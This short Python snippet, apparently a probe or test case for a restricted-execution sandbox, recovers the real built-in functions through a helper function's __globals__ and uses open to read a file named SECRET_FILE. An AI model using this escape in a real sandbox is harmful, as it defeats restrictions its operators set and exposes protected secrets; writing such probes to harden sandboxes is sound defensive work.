# tries: takes the real built-in functions from a helper's globals
def f():
    return 1
b = f.__globals__["__builtins__"]
answer = "OUT " + (b["open"] if isinstance(b, dict) else b.open)(SECRET_FILE).read()
